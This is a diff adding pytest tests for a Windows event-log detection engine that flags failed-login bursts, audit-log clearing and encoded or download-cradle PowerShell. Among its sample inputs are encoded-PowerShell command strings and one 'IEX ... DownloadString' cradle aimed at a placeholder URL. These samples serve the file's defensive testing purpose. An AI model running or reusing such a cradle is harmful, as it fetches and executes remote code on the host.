@@ -0,0 +1,312 @@
+import json
+from pathlib import Path
+import sys
+
+import pytest
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+
+import detect
+
+
+def _failed(ts, user="jsmith", ip="203.0.113.10"):
+    return {"event_id": 4625, "timestamp": ts, "user": user, "ip": ip}
+
+
+def test_find_bursts_reports_each_distinct_burst():
+    times = [0, 10, 20, 30, 1000, 1005, 1010, 5000]
+    bursts = detect.find_bursts(times, 60, 3)
+    assert [(b.start, b.end, b.count) for b in bursts] == [(0, 30, 4), (1000, 1010, 3)]
+    assert [(b.start_index, b.end_index) for b in bursts] == [(0, 3), (4, 6)]
+
+
+def test_find_bursts_below_threshold():
+    assert detect.find_bursts([0, 100, 200], 60, 2) == []
+
+
+def test_failed_login_burst_whole_campaign():
+    events = [
+        _failed("2026-02-05T14:00:00Z"),
+        _failed("2026-02-05T14:01:00Z"),
+        _failed("2026-02-05T14:02:00Z"),
+        _failed("2026-02-05T15:00:00Z"),
+        _failed("2026-02-05T15:00:30Z"),
+        _failed("2026-02-05T15:04:00Z"),
+        _failed("2026-02-05T15:00:00Z", ip="198.51.100.7"),
+    ]
+    findings = detect.rule_failed_login_burst(events)
+    assert len(findings) == 2
+    first, second = (f["evidence"] for f in findings)
+    assert (first["first_seen"], first["last_seen"], first["count"]) == ("2026-02-05T14:00:00Z", "2026-02-05T14:02:00Z", 3)
+    assert (second["first_seen"], second["last_seen"], second["events"]) == ("2026-02-05T15:00:00Z", "2026-02-05T15:04:00Z", 3)
+
+
+def test_run_rules_routes_by_event_id():
+    class CountingRule(detect.Rule):
+        rule_id = "TEST-001"
+        event_ids = (4720,)
+
+        def __init__(self):
+            super().__init__()
+            self.calls = 0
+
+        def on_event(self, e):
+            self.calls += 1
+
+    rule = CountingRule()
+    events = [{"event_id": 4720}, {"event_id": 4625}, {"event_id": 1102}, {"event_id": 4720}]
+    detect.run_rules(events, [rule])
+    assert rule.calls == 2
+
+
+def test_run_rules_keeps_registry_order():
+    events = [
+        {"event_id": 1102, "message": ""},
+        {"event_id": 4720, "message": ""},
+    ]
+    findings = detect.run_rules(events)
+    assert [f["rule_id"] for f in findings] == ["ACCT-001", "AUD-001"]
+
+
+@pytest.mark.parametrize("message, expected", [
+    ("powershell.exe -enc SQBFAFgA", True),
+    ("PowerShell.exe -e SQBFAFgA", True),
+    ("powershell -NoP -ec SQBFAFgA", True),
+    ("pwsh -EncodedCommand JABjAGwA", True),
+    ("POWERSHELL /EncodedCom JABj", True),
+    ("powershell -ExecutionPolicy Bypass -File a.ps1", False),
+    ("powershell -ep bypass", False),
+    ("cmd.exe /c echo -enc", False),
+])
+def test_encoded_powershell_variants(message, expected):
+    assert detect.EncodedPowerShellRule().matches(message) is expected
+
+
+def test_content_matcher_scans_once_for_all_rules():
+    class DownloadCradleRule(detect.EventIdRule):
+        rule_id = "TEST-002"
+        event_ids = (4688,)
+        content_column = "message"
+        indicators = {"powershell": r"powershell|pwsh", "cradle": r"downloadstring"}
+
+        def on_event(self, e):
+            if self.matches(e.get("message")):
+                super().on_event(e)
+
+    encoded, cradle = detect.EncodedPowerShellRule(), DownloadCradleRule()
+    matcher = detect.bind_content_matcher([encoded, cradle])
+    # the shared "powershell" fragment is compiled once
+    assert len(matcher.regex.groupindex) == 3
+    msg = "powershell -enc AAA; IEX (New-Object Net.WebClient).DownloadString('http://x')"
+    assert matcher.scan(msg) == [encoded, cradle]
+    assert matcher.scan("powershell -File a.ps1") == []
+
+    findings = detect.run_rules([{"event_id": 4688, "message": msg}], [encoded, cradle])
+    assert [f["rule_id"] for f in findings] == ["PROC-001", "TEST-002"]
+
+    # indicators starting at the same offset are all reported
+    class InvokeExpressionRule(DownloadCradleRule):
+        rule_id = "TEST-003"
+        indicators = {"iex": r"invoke-expression"}
+
+    class InvokeRule(DownloadCradleRule):
+        rule_id = "TEST-004"
+        indicators = {"invoke": r"invoke-"}
+
+    for rules in ([InvokeExpressionRule(), InvokeRule()], [InvokeRule(), InvokeExpressionRule()]):
+        matcher = detect.bind_content_matcher(rules)
+        assert matcher.scan("powershell Invoke-Expression $x") == rules
+
+
+def test_stream_rules_matches_batch():
+    events = [
+        _failed("2026-02-05T14:00:00Z"),
+        {"event_id": 4720, "message": "A user account was created."},
+        _failed("2026-02-05T14:01:00Z"),
+        _failed("2026-02-05T14:02:00Z"),
+        _failed("2026-02-05T16:00:00Z", ip="198.51.100.7"),
+        _failed("2026-02-05T16:00:10Z", ip="198.51.100.7"),
+        _failed("2026-02-05T16:00:20Z", ip="198.51.100.7"),
+    ]
+    batch = detect.run_rules(events)
+    streamed = list(detect.stream_rules(iter(events)))
+    key = lambda f: (f["rule_id"], str(f["evidence"]))
+    assert sorted(streamed, key=key) == sorted(batch, key=key)
+
+
+@pytest.mark.parametrize("events, late", [
+    # newest first, 6 h apart: not a burst, however it is fed
+    ([_failed("2026-02-05T20:00:00Z"), _failed("2026-02-05T14:00:00Z"), _failed("2026-02-05T08:00:00Z")], 2),
+    # keys interleaved out of order across keys, in order within each
+    ([_failed("2026-02-05T14:02:00Z"), _failed("2026-02-05T14:00:30Z", ip="198.51.100.7"),
+      _failed("2026-02-05T14:03:00Z"), _failed("2026-02-05T14:01:00Z", ip="198.51.100.7"),
+      _failed("2026-02-05T14:04:00Z"), _failed("2026-02-05T14:01:30Z", ip="198.51.100.7")], 0),
+])
+def test_out_of_order_stream_matches_batch(events, late):
+    rule = detect.FailedLoginBurstRule(streaming=True)
+    streamed = sorted(detect.stream_rules(iter(events), [rule]), key=detect.burst_order)
+    assert streamed == detect.rule_failed_login_burst(events)
+    assert rule.late == late
+
+
+def test_burst_state_carries_across_runs():
+    events = [_failed(f"2026-02-05T14:0{i}:00Z") for i in range(5)]
+    first = detect.FailedLoginBurstRule(streaming=True)
+    provisional = list(detect.stream_rules(iter(events[:2]), [first], final=False))
+    assert provisional == []
+
+    second = detect.FailedLoginBurstRule(streaming=True)
+    second.set_state(json.loads(json.dumps(first.get_state())))
+    findings = list(detect.stream_rules(iter(events[2:]), [second]))
+    assert findings == detect.rule_failed_login_burst(events)
+    assert findings[0]["evidence"]["events"] == 5
+
+
+def test_burst_state_is_bounded():
+    # a 500-event spray keeps only `threshold` timestamps and a bounded sample
+    rule = detect.FailedLoginBurstRule(streaming=True, sample_size=4)
+    for i in range(500):
+        rule.on_event({"event_id": 4625, "ts": 1770300000000 + i * 100, "user": "jsmith", "ip": "203.0.113.10"})
+    counter = rule.counters[("jsmith", "203.0.113.10")]
+    assert len(counter.ring) == 3 and len(counter.sample) == 4
+
+    ev = rule.finish()[0]["evidence"]
+    assert (ev["events"], len(ev["sample"])) == (500, 4)
+    assert ev["sample"][0] == ev["first_seen"]
+
+
+def test_burst_keys_expire_and_are_capped():
+    rule = detect.FailedLoginBurstRule(streaming=True, max_keys=2)
+    base = 1770300000000
+    for i, ip in enumerate(["10.0.0.1", "10.0.0.2", "10.0.0.1", "10.0.0.3"]):
+        rule.on_event({"event_id": 4625, "ts": base + i, "user": "u", "ip": ip})
+    # 10.0.0.2 was least recently seen when 10.0.0.3 arrived
+    assert list(rule.counters) == [("u", "10.0.0.1"), ("u", "10.0.0.3")]
+    assert rule.evicted == 1
+
+    rule.on_event({"event_id": 4625, "ts": base + rule.window + 10, "user": "u", "ip": "10.0.0.4"})
+    assert list(rule.counters) == [("u", "10.0.0.4")]
+
+
+def test_merge_findings_updates_growing_burst():
+    events = [_failed(f"2026-02-05T14:0{i}:00Z") for i in range(4)]
+    prior = detect.rule_failed_login_burst(events[:3])
+    merged, added = detect.merge_findings(prior, detect.rule_failed_login_burst(events))
+    assert added == 0
+    assert merged[0]["evidence"]["count"] == 4
+
+
+def test_fingerprint_is_stable_per_entity():
+    early = detect.rule_failed_login_burst([_failed(f"2026-02-05T14:0{i}:00Z") for i in range(3)])
+    later = detect.rule_failed_login_burst([_failed(f"2026-02-06T09:0{i}:00Z", user=" JSmith") for i in range(4)])
+    other = detect.rule_failed_login_burst([_failed(f"2026-02-05T14:0{i}:00Z", ip="198.51.100.7") for i in range(3)])
+    assert early[0]["fingerprint"] == later[0]["fingerprint"] != other[0]["fingerprint"]
+    assert early[0]["occurrence_id"] != later[0]["occurrence_id"]
+
+
+def test_numpy_backend_matches_python(tmp_path):
+    pytest.importorskip("numpy")
+    import colstore
+    import detect_numpy
+
+    burst = [dict(_failed(f"2026-02-06T00:0{i}:00Z", user="user1"), ts=1770336000000 + i * 60000) for i in range(4)]
+    colstore.write_store(list(detect_numpy.synthetic_events(20000)) + burst, tmp_path / "s.cols")
+    store = colstore.ColumnStore(tmp_path / "s.cols")
+    rules = detect.build_rules()
+    python = detect.run_rules(store.iter_rows(ref=True), rules)
+    assert detect_numpy.run_rules(store) == python
+    assert any(f["rule_id"] == "AUTH-001" for f in python)
+
+
+@pytest.mark.parametrize("dash", ["-", "\u2013"])
+def test_numpy_content_prefilter_matches_python(tmp_path, dash):
+    pytest.importorskip("numpy")
+    import colstore
+    import detect_numpy
+
+    messages = ["PowerShell.exe -File report.ps1", f"POWERSHELL {dash}EncodedCommand SQBFAFgA",
+                "cmd /c echo -enc", f"pwsh {dash}ec AA", "", "powershell.exe -encrypt x"]
+    events = [{"source": "synthetic", "host": "WS01", "timestamp": f"2026-02-05T14:0{i}:00Z", "event_id": 4688,
+               "user": "jsmith", "message": m} for i, m in enumerate(messages)]
+    colstore.write_store(events, tmp_path / "s.cols")
+    store = colstore.ColumnStore(tmp_path / "s.cols")
+    python = detect.run_rules(store.iter_rows(ref=True), detect.build_rules())
+    assert detect_numpy.run_rules(store) == python
+    assert len(python) == 2
+
+
+def test_numpy_backend_ignores_uncommitted_rows(tmp_path):
+    pytest.importorskip("numpy")
+    import colstore
+    import detect_numpy
+
+    # Rows flushed by an interrupted append are on disk but not in meta
+    colstore.write_store([_failed(f"2026-02-05T14:0{i}:00Z") for i in range(2)], tmp_path / "s.cols")
+    w = colstore.ColumnStoreWriter(tmp_path / "s.cols", append=True)
+    for i in range(2, 6):
+        w.append(_failed(f"2026-02-05T14:0{i}:00Z"))
+    w.append({"event_id": 4688, "timestamp": "2026-02-05T14:07:00Z", "message": "powershell -enc SQBFAFgA"})
+    w.flush()
+    w.abort()
+
+    store = colstore.ColumnStore(tmp_path / "s.cols")
+    assert len(store.numpy("ts")) == len(store.column("message")) == store.rows == 2
+    assert detect_numpy.run_rules(store) == detect.run_rules(store.iter_rows(ref=True), detect.build_rules()) == []
+
+
+def test_findings_reference_store_events(tmp_path):
+    import colstore
+    import findings_io
+
+    events = [_failed(f"2026-02-05T14:0{i}:00Z") for i in range(3)]
+    events.append({"event_id": 1102, "host": "DC01", "user": "admin", "timestamp": "2026-02-05T15:00:00Z",
+                   "ts": 1770303600000, "message": "The audit log was cleared."})
+    colstore.write_store(events, tmp_path / "s.cols")
+    store = colstore.ColumnStore(tmp_path / "s.cols")
+
+    embedded = detect.run_rules(store.iter_rows())
+    referenced = detect.run_rules(store.iter_rows(ref=True))
+    assert [f["occurrence_id"] for f in referenced] == [f["occurrence_id"] for f in embedded]
+
+    assert findings_io.write_jsonl(referenced, tmp_path / "findings.jsonl") == 2
+    findings = list(findings_io.iter_findings(tmp_path / "findings.jsonl"))
+    assert findings == referenced
+    evidence = findings[1]["evidence"]
+    assert "event" not in evidence
+    assert findings_io.resolve_event(store, evidence) == embedded[1]["evidence"]["event"]
+
+
+def test_sharded_detection_matches_single_process(tmp_path):
+    import colstore
+    import generate_logs
+
+    events = list(generate_logs.iter_events(6000, seed=7, users=50))
+    events += [dict(_failed(f"2026-02-06T00:0{i}:00Z", user="user1"), ts=1770336000000 + i * 60000) for i in range(4)]
+    colstore.write_store(events, tmp_path / "normalized_events.cols")
+
+    single = detect.detect_findings(tmp_path)
+    assert len({f["rule_id"] for f in single}) == 5
+    assert detect.detect_findings(tmp_path, workers=3) == single
+
+
+def test_ordered_store_uses_bounded_burst_state(tmp_path):
+    import colstore
+    import generate_logs
+
+    events = list(generate_logs.iter_events(6000, seed=7, users=50))
+    colstore.write_store(events, tmp_path / "ordered.cols")
+    colstore.write_store(events[::-1], tmp_path / "reversed.cols")
+    ordered = colstore.ColumnStore(tmp_path / "ordered.cols")
+    assert ordered.ordered and not colstore.ColumnStore(tmp_path / "reversed.cols").ordered
+
+    bucketed = detect.run_rules(ordered.iter_rows(ref=True), detect.build_rules())
+    rules = detect.build_rules(ordered=True)
+    burst = next(r for r in rules if r.rule_id == "AUTH-001")
+    seen = []
+    on_event = burst.on_event
+    burst.on_event = lambda e: (on_event(e), seen.append(len(burst.counters)))
+    assert detect.run_rules(ordered.iter_rows(ref=True), rules) == bucketed
+    assert any(f["rule_id"] == "AUTH-001" for f in bucketed)
+    # idle keys are flushed as the clock advances: nothing is bucketed and
+    # far fewer keys are live at once than the run has
+    assert not burst.buckets and max(seen) < len({(e["user"], e["ip"]) for e in events if e["event_id"] == 4625})